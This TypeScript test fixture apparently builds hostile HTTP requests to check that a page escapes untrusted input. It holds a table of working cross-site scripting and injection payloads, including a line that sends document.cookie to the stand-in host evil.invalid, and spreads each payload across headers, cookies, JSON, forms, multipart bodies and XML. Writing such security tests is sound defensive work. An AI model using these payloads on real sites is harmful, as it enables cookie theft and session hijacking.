// Requests that would do something on a careless page. Each payload sets a global, asks a foreign server, or changes
// the text that a reader sees.

import { requestOf } from "./page_fixture.ts";

const CODE = "window.__ran=1;alert(1);fetch('http://evil.invalid/'+document.cookie)";

/** The payloads for every place of a request, by what they try. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  script: `<script>${CODE}</script>`,
  "closing tags": `"'></pre></style></template></script><script>${CODE}</script>`,
  "event handlers": `<img src=x onerror="${CODE}"><body onload=${CODE}><details open ontoggle=${CODE}>`,
  attribute: `" onfocus="${CODE}" autofocus tabindex=1 x="`,
  "javascript: links": `<a href="javascript:${CODE}" id=app>x</a>javascript:${CODE}`,
  css: `</style><style>@import 'http://evil.invalid/a.css';*{background:url(http://evil.invalid/b)}</style>`,
  svg:
    `<svg onload="${CODE}"><script>${CODE}</script><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>">`,
  frames:
    `<iframe src="javascript:parent.__ran=1"></iframe><object data="data:text/html,<script>alert(1)</script>">`,
  "page changes":
    `<base href="http://evil.invalid/"><meta http-equiv=refresh content="0;url=http://evil.invalid/">`,
  templates: "${window.__ran=1}{{constructor.constructor('window.__ran=1')()}}<%= 1 %>#{1}",
  prototypes: '__proto__[x]=1&constructor[prototype][x]=1&"__html":"<b>"&dangerouslySetInnerHTML',
  bidirectional: "\xe2\x80\xaetxt.exe\xe2\x81\xa6\xe2\x80\x8f\xef\xbb\xbf\xe2\x80\x8b",
  terminal: "\x1b]0;owned\x07\x1b[31m\x1b[2J\x9b5n\x7f",
  "broken UTF-8": "\xc0\xbcscript\xc0\xbe\xed\xa0\x80\xff\xfe",
};

/** The requests of a payload: well-formed ones with it at every place that the grammar allows, and malformed ones. */
export function hostileRequests(payload: string): string[] {
  const fields = [
    `X-Value: ${printable(payload)}`,
    `Cookie: ${printable(payload).replaceAll(";", ",")}=1; b=2`,
  ];
  const target = `/api?${encodeURIComponent(payload).replaceAll("'", "%27")}=${
    payload.replaceAll(/[^\x21-\x7e]/g, "")
  }`;
  const json = JSON.stringify({ [payload]: payload, list: [payload], "__proto__": { x: payload } });
  const claims = base64Url(latin1(JSON.stringify({ alg: payload, [payload]: payload })));
  const form = `${encodeURIComponent(payload)}=${payload}&${payload}`;
  const parts = `--b\r\nContent-Disposition: form-data; name="${payload}"; filename="${payload}"\r\n` +
    `${payload}: x\r\nContent-Type: text/html\r\n\r\n${payload}\r\n--b--\r\n`;
  return [
    requestOf(`GET ${target}`, fields),
    requestOf(
      "POST /json",
      [
        ...fields,
        "Content-Type: application/json",
        `X-GitHub-Event: ${printable(payload)}`,
        `Authorization: Bearer ${claims}.${claims}.${claims}`,
      ],
      latin1(json),
    ),
    requestOf("POST /form", [...fields, "Content-Type: application/x-www-form-urlencoded"], form),
    requestOf("POST /parts", ["Content-Type: multipart/form-data; boundary=b"], parts),
    requestOf("PUT /page", ["Content-Type: text/html; charset=utf-8"], `<!DOCTYPE html>${payload}`),
    requestOf("PUT /picture", [`Content-Type: image/svg+xml; x="${printable(payload)}"`], payload),
    requestOf(
      "POST /xml",
      ["Content-Type: application/xml"],
      `<a b="${payload}"><!--${payload}--><c>${payload}</c><?${payload}?><![CDATA[${payload}]]></a>`,
    ),
    requestOf(
      "PUT /image",
      [`Content-Type: image/png; x="${printable(payload)}"`],
      `\x89PNG\r\n\x1a\n${payload}`,
    ),
    requestOf(`GET /${payload.replaceAll(/[^\x21-\x7e]/g, "")}/in-a-bin`, fields),
    `${payload} /method HTTP/1.1\r\nHost: a\r\n\r\n`,
    `GET /name HTTP/1.1\r\nHost: a\r\n${payload}: ${payload}\r\n\r\n${payload}`,
  ];
}

/** Without the controls that make a field value malformed. */
function printable(payload: string): string {
  // deno-lint-ignore no-control-regex
  return payload.replaceAll(/[\x00-\x1f\x7f]/g, "");
}

function base64Url(bytes: string): string {
  return btoa(bytes).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
}

/** The bytes of a text in UTF-8, seen as latin1. */
function latin1(text: string): string {
  return Array.from(new TextEncoder().encode(text), (byte) => String.fromCharCode(byte)).join("");
}
